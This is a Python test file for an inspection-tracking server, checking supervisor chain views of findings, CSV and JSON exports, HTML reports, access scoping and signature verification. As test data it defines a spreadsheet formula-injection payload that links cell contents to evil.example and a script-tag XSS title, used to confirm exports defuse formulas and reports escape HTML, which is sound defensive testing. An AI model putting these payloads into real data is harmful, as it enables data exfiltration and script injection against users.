"""Read models for supervisors over HTTP: the chain view, the exports, the documents."""

from __future__ import annotations

import csv
import io
import json
import re
from datetime import UTC, datetime

import pytest

from server.demo import DEMO_PASSWORD
from tests.conftest import Session, login

CHAIN_VIEW = "/api/v1/products/prod-zv101/chain-findings"
EVIL_TITLE = '=HYPERLINK("http://evil.example/?x="&A1,"培养基灌装 <b>click</b>")'
XSS_TITLE = "<script>alert('x')</script> 冻干机泄漏 & more"


def _hlc(n: int) -> str:
    return f"{int(datetime.now(UTC).timestamp() * 1000) + n:015d}.00000.t"


class Pusher:
    """Pushes field data for one logged-in tablet, one mutation per call."""

    def __init__(self, session: Session) -> None:
        self.s = session
        self.n = 0

    async def put(self, kind: str, rid: str, base_rev: int = 0, **fields) -> None:
        self.n += 1
        mutation = {
            "base_rev": base_rev,
            "mid": f"{self.s.tokens['user_id']}:{self.n}",
            "kind": kind,
            "id": rid,
            "fields": fields,
            "hlc": _hlc(self.n),
            "device_time": datetime.now(UTC).isoformat(),
        }
        r = await self.s.post("/api/v1/sync/push", json={"mutations": [mutation]})
        assert r.status_code == 200, r.text
        assert r.json()["results"][0]["status"] == "applied", r.json()

    async def finding(self, iid: str, fid: str, title: str, **fields) -> None:
        await self.put("finding", fid, inspection_id=iid, title=title, **fields)


async def _start(session: Session, iid: str) -> None:
    r = await session.post(f"/api/v1/inspections/{iid}/transitions", json={"to": "in_progress"})
    assert r.status_code == 200, r.text


@pytest.fixture
async def world(demo):
    """Findings at the three sites of the ZV-101 chain:

    - Suzhou (drug substance, Jiangsu-led): a major on purification (linked item), a
      critical linked to no item (sits under the first link covered, the cell bank),
      a reclassified one and one merged into another (as the review will write them);
    - Hangzhou (conjugation, joint: Zhejiang leads, Jiangsu takes part): one raised by
      each authority's inspector;
    - Taizhou (fill-finish, Jiangsu-led): a critical on lyophilisation with an HTML
      title, and a withdrawn one.
    """
    js1 = Pusher(await login(demo, "insp.js1", device={"name": "js1"}))
    js2 = Pusher(await login(demo, "insp.js2", device={"name": "js2"}))
    zj1 = Pusher(await login(demo, "insp.zj1", device={"name": "zj1"}))
    await _start(zj1.s, "insp-joint-conj")
    await _start(js2.s, "insp-fill-pai")

    await js1.finding(
        "insp-ds-routine",
        "f-ds-resin",
        "Resin lifetime not validated / 树脂使用寿命未验证",
        classification="major",
        linked_items=["l4-purif:hp_resin_lifetime"],
        objective_evidence="Protein A resin used for 212 cycles; validated for 150.",
        references=[{"document": "ICH Q7", "section": "18.3"}],
        status="submitted",
    )
    await js2.finding(
        "insp-ds-routine",
        "f-ds-bank",
        EVIL_TITLE,
        classification="critical",
        objective_evidence="-2+3 vials unaccounted for; @SUM(A1) in the log",
        status="submitted",
    )
    await js1.finding(
        "insp-ds-routine",
        "f-ds-dup",
        "Duplicate of the resin finding",
        classification="major",
        linked_items=["l4-purif:hp_resin_lifetime"],
    )
    await js1.finding(
        "insp-ds-routine",
        "f-ds-reclass",
        "Cell bank inventory not reconciled",
        classification="major",
        linked_items=["l2-cellbank:cb_history"],
    )
    await js1.put("response", "insp-ds-routine~l2-cellbank~cb_container_id~0", value="=1+1")
    await js1.put("response", "insp-ds-routine~l2-cellbank~cb_storage_temp~0", value=-150)
    await js2.put(
        "response",
        "insp-ds-routine~l2-cellbank~cb_container_id~1",
        value="液氮罐 LN2-03",
        note="+86 电话 记录",
    )

    await zj1.finding(
        "insp-joint-conj",
        "f-cj-zj",
        "Thaw hold time not supported",
        classification="other",
        linked_items=["l6-conj:cj_mab_thaw"],
    )
    await js1.finding(
        "insp-joint-conj", "f-cj-js", "Containment not verified", classification="major"
    )

    await js2.finding(
        "insp-fill-pai",
        "f-fill-lyo",
        XSS_TITLE,
        classification="critical",
        linked_items=["l8-lyo:ly_cycle_validated"],
    )
    await js2.finding(
        "insp-fill-pai", "f-fill-wd", "Raised in error", classification="other", status="withdrawn"
    )

    # the review workflow (a supervisor of the lead authority) reclassifies, accepts, merges
    sup = await login(demo, "sup.js")
    for fid, body in (
        (
            "f-ds-reclass",
            {
                "decision": "reclassify",
                "classification": "critical",
                "reason": "Falsified reconciliation <record>",
            },
        ),
        ("f-ds-reclass", {"decision": "accept", "reason": "Confirmed on site"}),
        ("f-ds-dup", {"decision": "merge", "into": "f-ds-resin", "reason": "Same resin"}),
    ):
        r = await sup.post(
            f"/api/v1/review/findings/{fid}/decisions",
            json={**body, "password": DEMO_PASSWORD},
        )
        assert r.status_code == 200, r.text
    return demo


# --- the chain view ------------------------------------------------------------------


async def test_chain_view_shows_three_sites_in_chain_order_with_counts(world):
    sup = await login(world, "sup.zj")  # Zhejiang: sees Jiangsu-led inspections here too
    r = await sup.get(CHAIN_VIEW)
    assert r.status_code == 200, r.text
    view = r.json()
    assert view["product_name"].startswith("Zelatuzumab vedotin")
    assert view["mah_name"].startswith("Huaxin")
    [chain] = view["chains"]
    links = chain["links"]
    assert [lk["link_id"] for lk in links] == [
        "l1-mah",
        "l2-cellbank",
        "l3-upstream",
        "l4-purif",
        "l5-viral",
        "l6-conj",
        "l7-fill",
        "l8-lyo",
        "l9-pack",
        "l10-release",
    ]
    assert [lk["position"] for lk in links] == list(range(1, 11))
    with_findings = [
        (lk["link_id"], lk["site_id"], [f["id"] for f in lk["findings"]])
        for lk in links
        if lk["findings"]
    ]
    assert with_findings == [
        ("l2-cellbank", "site-suzhou-ds", ["f-ds-bank", "f-ds-reclass"]),
        ("l4-purif", "site-suzhou-ds", ["f-ds-resin", "f-ds-dup"]),  # merged last
        ("l6-conj", "site-hangzhou-adc", ["f-cj-js", "f-cj-zj"]),  # major before other
        ("l7-fill", "site-taizhou-fill", ["f-fill-wd"]),
        ("l8-lyo", "site-taizhou-fill", ["f-fill-lyo"]),
    ]
    by_link = {lk["link_id"]: lk for lk in links}
    assert by_link["l2-cellbank"]["counts"] == {
        "critical": 2,
        "major": 0,
        "other": 0,
        "unclassified": 0,
        "total": 2,
        "withdrawn_or_merged": 0,
    }
    assert by_link["l4-purif"]["counts"]["major"] == 1
    assert by_link["l4-purif"]["counts"]["withdrawn_or_merged"] == 1
    assert by_link["l6-conj"]["counts"] == {
        "critical": 0,
        "major": 1,
        "other": 1,
        "unclassified": 0,
        "total": 2,
        "withdrawn_or_merged": 0,
    }
    assert by_link["l7-fill"]["counts"]["total"] == 0
    assert by_link["l7-fill"]["counts"]["withdrawn_or_merged"] == 1
    expected_totals = {
        "critical": 3,
        "major": 2,
        "other": 1,
        "unclassified": 0,
        "total": 6,
        "withdrawn_or_merged": 2,
    }
    assert chain["counts"] == expected_totals
    assert view["counts"] == expected_totals

    # each finding says where it was found and who raised it
    bank = by_link["l2-cellbank"]["findings"][0]
    assert bank["site_name"] == "Huaxin Suzhou antibody plant"
    assert bank["province"] == "Jiangsu"
    assert bank["lead_authority_id"] == "js-mpa"
    assert bank["placed_by"] == "inspection"  # no linked item: first link covered
    assert bank["nmpa_label"] == "serious" and bank["nmpa_label_zh"] == "严重缺陷"
    reclass = by_link["l2-cellbank"]["findings"][1]
    assert reclass["placed_by"] == "linked_items"
    assert (reclass["classification"], reclass["original_classification"]) == (
        "critical",
        "major",
    )
    assert by_link["l4-purif"]["findings"][1]["merged_into"] == "f-ds-resin"
    # the joint inspection: both authorities, and whose team member raised what
    conj = by_link["l6-conj"]
    [joint] = [i for i in conj["inspections"] if i["id"] == "insp-joint-conj"]
    assert joint["joint"] is True
    assert joint["lead_authority"]["id"] == "zj-mpa"
    assert [a["id"] for a in joint["participating_authorities"]] == ["js-mpa"]
    assert {i["id"] for i in conj["inspections"]} == {"insp-joint-conj", "insp-conj-forcause"}
    raised = {f["id"]: f["raised_by"] for f in conj["findings"]}
    assert raised["f-cj-zj"]["authority_id"] == "zj-mpa"
    assert raised["f-cj-zj"]["name"] == "Inspector Zhou (Zhejiang)"
    assert raised["f-cj-js"]["authority_id"] == "js-mpa"
    assert all(f["authority_ids"] == ["zj-mpa", "js-mpa"] for f in conj["findings"])
    split = conj["counts_by_authority"]
    assert sorted(split) == ["js-mpa", "zj-mpa"]
    assert (split["js-mpa"]["major"], split["zj-mpa"]["other"]) == (1, 1)
    assert split["js-mpa"]["total"] == split["zj-mpa"]["total"] == 1


async def test_chain_view_is_for_supervisors_and_admins(world):
    for user in ("insp.js1", "insp.zj1"):
        r = await (await login(world, user)).get(CHAIN_VIEW)
        assert r.status_code == 403 and r.json()["code"] == "forbidden"
    admin = await login(world, "admin")
    assert (await admin.get(CHAIN_VIEW)).json()["counts"]["total"] == 6
    sup = await login(world, "sup.js")
    r = await sup.get("/api/v1/products/nope/chain-findings")
    assert r.status_code == 404 and r.json()["code"] == "not_found"


# --- exports -------------------------------------------------------------------------


def _rows(r) -> list[dict[str, str]]:
    assert r.content.startswith(b"\xef\xbb\xbf")  # the BOM, so Excel reads UTF-8
    return list(csv.DictReader(io.StringIO(r.content.decode("utf-8-sig"), newline="")))


async def test_findings_csv_defuses_formulas_and_round_trips_chinese(world):
    sup = await login(world, "sup.js")
    r = await sup.get("/api/v1/inspections/insp-ds-routine/export.csv")
    assert r.status_code == 200, r.text
    assert r.headers["content-type"].startswith("text/csv")
    assert "charset=utf-8" in r.headers["content-type"]
    assert 'filename="insp-ds-routine-findings.csv"' in r.headers["content-disposition"]
    rows = _rows(r)
    assert [row["finding_id"] for row in rows] == [
        "f-ds-bank",
        "f-ds-reclass",
        "f-ds-resin",
        "f-ds-dup",
    ]
    bank = rows[0]
    assert bank["title"] == "'" + EVIL_TITLE  # shown as text, not run
    assert bank["objective_evidence"].startswith("'-2+3")
    assert bank["nmpa_label_zh"] == "严重缺陷"
    assert bank["area_link"] == "general"
    assert bank["raised_by"] == "Inspector Zhao (Jiangsu)"
    resin = rows[2]
    assert resin["title"] == "Resin lifetime not validated / 树脂使用寿命未验证"
    assert resin["area_link"] == "l4-purif" and resin["area_section"] == "hp_columns"
    assert resin["references"] == "ICH Q7, 18.3"
    assert resin["merged_from"] == "f-ds-dup"
    assert rows[3]["merged_into"] == "f-ds-resin" and rows[3]["status"] == "merged"
    reclass = rows[1]
    assert reclass["original_classification"] == "major"
    assert reclass["last_decision"] == "accept"
    assert reclass["last_decision_reason"] == "Confirmed on site"
    assert reclass["last_decision_by"] == "Supervisor Chen (Jiangsu)"
    # no cell of the file starts a formula
    for row in rows:
        for value in row.values():
            assert not value or value[0] not in "=+-@", value


async def test_responses_csv_in_checklist_order(world):
    s = await login(world, "insp.js1")
    r = await s.get("/api/v1/inspections/insp-ds-routine/export.csv?what=responses")
    assert r.status_code == 200
    assert 'filename="insp-ds-routine-responses.csv"' in r.headers["content-disposition"]
    rows = _rows(r)
    got = [(row["item_key"], row["repeat"], row["value"]) for row in rows]
    assert got == [
        ("cb_container_id", "0", "'=1+1"),
        ("cb_container_id", "1", "液氮罐 LN2-03"),
        ("cb_storage_temp", "0", "-150"),  # a number stays a number
    ]
    assert rows[1]["note"] == "'+86 电话 记录"
    assert rows[1]["answered_by"] == "Inspector Zhao (Jiangsu)"
    assert rows[0]["section_title_zh"] and rows[0]["prompt_en"]
    assert rows[2]["unit"] == "°C"
    assert rows[0]["checklist_version"].startswith("cell_bank-v")
    r = await s.get("/api/v1/inspections/insp-ds-routine/export.csv?what=photos")
    assert r.status_code == 400


async def test_json_export_is_one_document_without_bookkeeping(world):
    s = await login(world, "insp.zj1")  # on the joint inspection's team
    r = await s.get("/api/v1/inspections/insp-joint-conj/export.json")
    assert r.status_code == 200
    assert r.headers["content-type"].startswith("application/json")
    doc = r.json()
    assert doc["format"] == "inspectsync.inspection-export/1"
    head = doc["inspection"]
    assert head["id"] == "insp-joint-conj"
    assert head["site"]["licence_number"] == "ZJ20260207"
    assert head["lead_authority"]["id"] == "zj-mpa"
    assert [a["id"] for a in head["participating_authorities"]] == ["js-mpa"]
    assert [(m["name"], m["role"]) for m in head["team"]] == [
        ("Inspector Zhou (Zhejiang)", "lead"),
        ("Inspector Li (Jiangsu)", "member"),
    ]
    assert head["links"][0]["checklist_version"].startswith("conjugation-v")
    assert {f["id"] for f in doc["findings"]} == {"f-cj-zj", "f-cj-js"}
    assert "_stamps" not in json.dumps(doc)
    zj = next(f for f in doc["findings"] if f["id"] == "f-cj-zj")
    assert zj["raised_by"]["authority_id"] == "zj-mpa"
    assert zj["labels"]["nmpa"] == "general"
    assert zj["area"] == {"link_id": "l6-conj", "section_key": "cj_incoming"}


@pytest.mark.parametrize(
    ("user", "iid"),
    [
        ("insp.zj2", "insp-ds-routine"),  # another province's inspector
        ("insp.js2", "insp-joint-conj"),  # same province, not on the team
        ("sup.zj", "insp-fill-pai"),  # a supervisor of an authority not taking part
        ("admin", "insp-nope"),  # does not exist
    ],
)
async def test_exports_and_report_out_of_scope_are_404(world, user, iid):
    s = await login(world, user)
    for suffix in (
        "export.csv",
        "export.csv?what=responses",
        "export.json",
        "report.html",
        "deficiencies.html?lang=en",
        "rectifications.html",
        "rectifications.pdf",
    ):
        r = await s.get(f"/api/v1/inspections/{iid}/{suffix}")
        assert r.status_code == 404, (user, iid, suffix, r.status_code)
        assert r.json()["code"] == "not_found"


# --- the documents (tests/server/test_documents.py: both languages, rectifications) ---


async def test_report_and_deficiency_list_hold_the_facts_and_classified_findings(world):
    sup = await login(world, "sup.js")
    base = "/api/v1/inspections/insp-ds-routine"
    r = await sup.get(f"{base}/report.html?lang=en")
    assert r.status_code == 200
    assert r.headers["content-type"].startswith("text/html")
    assert "default-src 'none'" in r.headers["content-security-policy"]
    html = r.text
    assert html.startswith("<!DOCTYPE html>")
    for fact in (
        "Huaxin Suzhou antibody plant",
        "88 Xinghu Street, Suzhou Industrial Park, Jiangsu",
        "JS20260011",
        "Huaxin Biologics Co., Ltd. (MAH)",
        "Routine GMP inspection",
        "Jiangsu Medical Products Administration",
        "<td>Inspector Li (Jiangsu)</td><td>lead inspector</td>",
        "<td>Inspector Zhao (Jiangsu)</td><td>team member</td>",
        "cell_bank-v",  # the pinned checklist version
        "@media print",
        "break-before: page",
    ):
        assert fact in html, fact
    for external in ("<script", "<link", "<img", "src=", "@import", "url("):
        assert external not in html, external
    summary = html[html.index("5. Summary") :]
    assert "Review: 2 awaiting a decision; 0 with an open conflict." in summary
    # progress per link said plainly
    scope = html[html.index("3. Scope") : html.index("4. Inspection team")]
    assert re.search(r'<td class="num">\d+ / \d+</td>', scope)

    html = (await sup.get(f"{base}/deficiencies.html?lang=en")).text
    numbered = re.findall(r"<tr><td>([CMOU]\d)</td><td><strong>([^<]+)</strong>", html)
    assert [n for n, _ in numbered] == ["C1", "C2", "M1"]  # critical first, then major
    titles = [t for _, t in numbered]
    assert titles[2] == "Resin lifetime not validated / 树脂使用寿命未验证"
    assert "Cell bank inventory not reconciled" in titles  # reclassified major -> critical
    reclassified = html[html.index("Cell bank inventory not reconciled") :]
    reclassified = reclassified[: reclassified.index("</tr>")]
    assert "NMPA serious · PIC/S critical" in reclassified
    assert "classified by the inspector as major" in reclassified
    assert "raised by Inspector Li (Jiangsu)" in reclassified
    # merged findings are listed apart, not as a deficiency
    apart = html[html.index("Withdrawn and merged findings") :]
    assert "Duplicate of the resin finding — merged into f-ds-resin" in apart


async def test_documents_escape_html_in_findings(world):
    js2 = await login(world, "insp.js2")
    r = await js2.get("/api/v1/inspections/insp-fill-pai/deficiencies.html?lang=en")
    assert r.status_code == 200
    html = r.text
    assert "<script>" not in html
    assert "&lt;script&gt;alert(&#x27;x&#x27;)&lt;/script&gt; 冻干机泄漏 &amp; more" in html
    assert "Raised in error" in html  # withdrawn: listed apart
    ds = await (await login(world, "sup.js")).get("/api/v1/inspections/insp-ds-routine/report.html")
    assert "&quot;培养基灌装 &lt;b&gt;click&lt;/b&gt;&quot;" in ds.text


async def test_report_of_a_planned_inspection(demo):
    sup = await login(demo, "sup.zj")
    base = "/api/v1/inspections/insp-conj-forcause"
    r = await sup.get(f"{base}/report.html?lang=en")
    assert r.status_code == 200
    assert "not pinned (inspection not started)" in r.text
    assert "Not started yet: no checklist is pinned." in r.text
    assert "Not concluded yet." in r.text
    r = await sup.get(f"{base}/deficiencies.html")
    assert "未发现缺陷。" in r.text
    r = await sup.get(f"{base}/rectifications.html?lang=en")
    assert "No accepted finding: nothing to rectify." in r.text


async def test_the_signature_page_checks_every_signature_against_its_content(world, app):
    sup = await login(world, "sup.js")
    url = "/api/v1/inspections/insp-ds-routine/report.html?lang=en"

    def signatures(html: str) -> str:
        return html[html.index("Electronic signatures") : html.index("Document manifest")]

    part = signatures((await sup.get(url)).text)
    assert part.count("<td>matches</td>") == 3  # reclassify, accept, merge
    assert "changed since signing" not in part
    # the inspector changes the accepted finding's text afterwards
    js1 = Pusher(await login(world, "insp.js1", device={"name": "js1-again"}))
    js1.n = 100
    rec = await app.state.services.store.get_record("finding", "f-ds-reclass")
    await js1.put(
        "finding", "f-ds-reclass", base_rev=rec.rev, title="Cell bank inventory reconciled late"
    )
    part = signatures((await sup.get(url)).text)
    assert part.count("no: changed since signing") == 2  # the decisions on it
    assert part.count("<td>matches</td>") == 1  # the merge, on another finding
